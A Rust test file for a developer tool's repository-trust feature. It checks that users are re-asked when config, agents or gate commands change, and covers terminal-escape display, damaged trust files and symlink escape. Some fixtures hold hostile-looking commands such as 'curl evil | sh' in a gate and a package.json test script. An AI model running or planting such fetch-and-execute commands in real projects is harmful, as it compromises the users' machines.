//! Trust, and the commands that write into a repository.

use std::fs;
use std::path::{Path, PathBuf};
use windlass_resources::catalog::{Catalog, ProjectUse};
use windlass_resources::gates::detect;
use windlass_resources::init;
use windlass_resources::places::Places;
use windlass_resources::source::Kind;
use windlass_resources::trust::{Answer, Decision, Subject, TrustError, TrustStore, decide};

struct Repo {
    _dir: tempfile::TempDir,
    root: PathBuf,
    store: TrustStore,
}

impl Repo {
    fn new(files: &[(&str, &str)]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = fs::canonicalize(dir.path()).unwrap().join("repo");
        fs::create_dir(&root).unwrap();
        let repo = Self { store: TrustStore::new(&dir.path().join("state")), root, _dir: dir };
        for (path, text) in files {
            repo.write(path, text);
        }
        repo
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.root.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn subject(&self) -> Subject {
        let places = Places { project: Some(self.root.clone()), ..Places::default() };
        let catalog = Catalog::load(&places, ProjectUse::Untrusted);
        Subject::of(&places, &catalog, &detect(&self.root))
    }

    fn decide(&self) -> Decision {
        decide(&self.subject(), self.store.get(&self.root).unwrap().as_ref())
    }

    fn trust(&self, answer: Answer) {
        self.store.put(&self.root, &self.subject(), answer, 7).unwrap();
    }
}

const FILES: &[(&str, &str)] = &[
    (
        ".windlass/config.toml",
        "[run]\ngates = [\"make test\", \"curl \\u001b[31mx\"]\nbudget_usd = 50\n[runtimes.pi]\ncommand = [\"./pi\"]\n[ui]\ncolor = \"never\"\n",
    ),
    (
        ".windlass/agents/deploy.md",
        "---\nname: deploy\ndescription: Deploys\nruntime: command\ncommand: [\"sh\", \"-c\", \"./deploy\"]\n---\n",
    ),
    (".windlass/agents/broken.md", "---\nruntime: nothing\n---\n"),
    (
        ".crew/workflows/ship.workflow.md",
        "---\nname: ship\n---\n## a\nrole: executor\ngate: make ship\n\nx\n",
    ),
    (".claude/agents/executor.md", "---\nname: executor\ndescription: Hidden\n---\nx\n"),
    ("skills/house/SKILL.md", "---\nname: house\ndescription: House rules\n---\nx\n"),
    ("package.json", "{\"scripts\":{\"test\":\"vitest run\"}}"),
];

#[test]
fn the_question_fits_one_screen_and_cannot_steer_it() {
    let repo = Repo::new(FILES);
    let subject = repo.subject();
    insta::assert_snapshot!(format!("{}\n\n{}", subject.listing(40, 100), subject.listing(4, 40)));
    let plain = Repo::new(&FILES[6..]);
    insta::assert_snapshot!("detected", plain.subject().listing(40, 100));
}

#[test]
fn nothing_of_a_command_is_out_of_sight_when_it_is_asked_about() {
    let gate = format!("make test  --with {} 日本語日本語日本語; curl evil | sh", "a-long-option ".repeat(9));
    let config = format!("[run]\ngates = [{}]\n", serde_json::to_string(&gate).unwrap());
    let subject = Repo::new(&[(".windlass/config.toml", &config)]).subject();
    for width in 20..200 {
        let listing = subject.listing(40, width);
        let cells = |line: &str| line.chars().map(|c| if c.is_ascii() { 1 } else { 2 }).sum::<usize>();
        assert!(listing.lines().all(|line| cells(line) <= width), "{width}:\n{listing}");
        let told: String = listing.split_whitespace().collect();
        let wanted: String = gate.split_whitespace().collect();
        assert!(told.contains(&wanted), "{width}:\n{listing}");
    }
    assert!(subject.listing(3, 40).ends_with("`windlass trust --show`"));
}

#[test]
fn an_answer_holds_until_other_hands_change_what_was_shown() {
    let repo = Repo::new(FILES);
    assert_eq!(repo.decide(), Decision::NeverAsked);
    assert!(repo.decide().must_ask() && repo.decide().notice().is_some());
    assert_eq!(repo.decide().answer(), Answer::None);
    repo.trust(Answer::All);
    assert_eq!(repo.decide(), Decision::Answered(Answer::All));
    // What was not shown may change.
    repo.write("src/main.rs", "x");
    repo.write("package.json", "{\"scripts\":{\"test\":\"other\"}}");
    assert_eq!(repo.decide(), Decision::Answered(Answer::All));
    repo.write(".windlass/agents/deploy.md", "---\nname: deploy\ndescription: Deploys\nruntime: command\ncommand: [\"sh\", \"-c\", \"./evil\"]\n---\n");
    repo.write(".windlass/agents/extra.md", "---\nname: extra\n---\nx");
    fs::remove_file(repo.root.join("skills/house/SKILL.md")).unwrap();
    let Decision::Changed { before: Answer::All, changes } = repo.decide() else { panic!() };
    insta::assert_snapshot!(changes.join("\n"));
    assert_eq!(repo.decide().answer(), Answer::None);

    repo.trust(Answer::GatesOnly);
    repo.write(".windlass/agents/extra.md", "---\nname: extra\n---\ny");
    assert_eq!(repo.decide(), Decision::Answered(Answer::GatesOnly));
    repo.write(".windlass/config.toml", "[run]\ngates = [\"make other\"]\n");
    assert!(matches!(repo.decide(), Decision::Changed { before: Answer::GatesOnly, .. }));
    repo.trust(Answer::None);
    repo.write(".windlass/config.toml", "[run]\ngates = [\"make third\"]\n");
    assert_eq!(repo.decide(), Decision::Answered(Answer::None));
    assert!(repo.store.revoke(&repo.root).unwrap() && !repo.store.revoke(&repo.root).unwrap());
    assert_eq!(repo.decide(), Decision::NeverAsked);
    assert_eq!(Repo::new(&[]).decide(), Decision::Nothing);
}

#[test]
fn a_script_behind_a_detected_gate_counts() {
    let repo = Repo::new(&FILES[6..]);
    repo.trust(Answer::All);
    repo.write("package.json", "{\"name\":\"x\",\"scripts\":{\"test\":\"vitest run\"}}");
    assert_eq!(repo.decide(), Decision::Answered(Answer::All));
    repo.write("package.json", "{\"scripts\":{\"test\":\"curl evil | sh\"}}");
    assert!(repo.decide().must_ask());
}

#[test]
fn own_writes_renew_and_do_not_wave_others_through() {
    let repo = Repo::new(FILES);
    repo.trust(Answer::All);
    let before = repo.subject();
    repo.write(".windlass/agents/mine.md", "---\nname: mine\n---\nx");
    assert!(repo.store.renew(&repo.root, &before, &repo.subject(), 8).unwrap());
    assert_eq!(repo.decide(), Decision::Answered(Answer::All));
    // Someone else changed something since: our own write does not make that trusted.
    repo.write(".windlass/agents/deploy.md", "---\nname: deploy\n---\nevil");
    let before = repo.subject();
    repo.write(".windlass/agents/mine.md", "---\nname: mine\n---\ny");
    assert!(!repo.store.renew(&repo.root, &before, &repo.subject(), 9).unwrap());
    assert!(repo.decide().must_ask());
    // In a repository that held nothing, what the user just made is theirs.
    let empty = Repo::new(&[]);
    let before = empty.subject();
    init::init(&empty.root, &[]).write(&empty.root).unwrap();
    empty.write(".windlass/config.toml", "[run]\ngates = [\"true\"]\n");
    assert!(empty.store.renew(&empty.root, &before, &empty.subject(), 1).unwrap());
    assert_eq!(empty.decide(), Decision::Answered(Answer::All));
    // Never asked and something was there: still to be asked.
    let other = Repo::new(FILES);
    let before = other.subject();
    other.write(".windlass/agents/mine.md", "---\nname: mine\n---\nx");
    assert!(!other.store.renew(&other.root, &before, &other.subject(), 1).unwrap());
}

#[test]
fn a_damaged_answer_is_not_no_answer() {
    let repo = Repo::new(FILES);
    repo.trust(Answer::All);
    let folder = repo.root.parent().unwrap().join("state/trust");
    let kept = fs::read_dir(&folder).unwrap().next().unwrap().unwrap().path();
    let good = fs::read_to_string(&kept).unwrap();
    for bad in [
        "",
        "{",
        "[]",
        &good.replace("\"version\": 1", "\"version\": 9"),
        &good.replace("/repo\"", "/other\""),
    ] {
        fs::write(&kept, bad).unwrap();
        assert!(matches!(repo.store.get(&repo.root), Err(TrustError::Damaged { .. })), "{bad}");
    }
}

#[test]
fn init_and_new_write_only_what_is_not_there() {
    let repo = Repo::new(&FILES[6..]);
    let plan = init::init(&repo.root, &detect(&repo.root));
    assert!(!repo.root.join(".windlass").exists());
    insta::assert_snapshot!("init", plan.files[0].contents);
    assert_eq!(plan.write(&repo.root).unwrap().len(), 1);
    repo.write(".windlass/config.toml", "mine = 1");
    let again = init::init(&repo.root, &[]);
    assert!(again.files[0].exists && again.write(&repo.root).unwrap().is_empty());
    assert_eq!(fs::read_to_string(repo.root.join(".windlass/config.toml")).unwrap(), "mine = 1");

    let folder = repo.root.join(".windlass");
    for kind in Kind::ALL {
        init::new_resource(kind, "mine", &folder).unwrap().write(&repo.root).unwrap();
        assert_eq!(init::new_resource(kind, "mine", &folder).unwrap_err().code, "name-taken");
        for bad in ["", "../x", "a b", "a:b", ".x", "a\nb"] {
            assert_eq!(init::new_resource(kind, bad, &folder).unwrap_err().code, "bad-name", "{bad:?}");
        }
    }
    // The templates are good files.
    let places = Places { project: Some(repo.root.clone()), ..Places::default() };
    let catalog = Catalog::load(&places, ProjectUse::Trusted);
    assert_eq!(windlass_resources::validate::validate(&catalog), []);
    assert!(catalog.teams.get("mine").is_ok() && catalog.skills.get("mine").is_ok());
    let config =
        windlass_resources::config::ConfigFile { path: "p".into(), text: plan.files[0].contents.clone() };
    let sources = windlass_resources::config::Sources {
        project: Some(&config),
        trust: Answer::All,
        ..Default::default()
    };
    let (config, findings) = windlass_resources::config::Config::load(&sources);
    assert_eq!((config.gates(), findings), (["npm test".to_owned()].as_slice(), vec![]));
}

#[test]
fn a_linked_folder_does_not_lead_out_of_the_repository() {
    let repo = Repo::new(&[]);
    let outside = repo.root.parent().unwrap().join("outside");
    fs::create_dir(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, repo.root.join(".windlass")).unwrap();
    assert!(init::init(&repo.root, &[]).write(&repo.root).is_err());
    assert_eq!(fs::read_dir(Path::new(&outside)).unwrap().count(), 0);
}
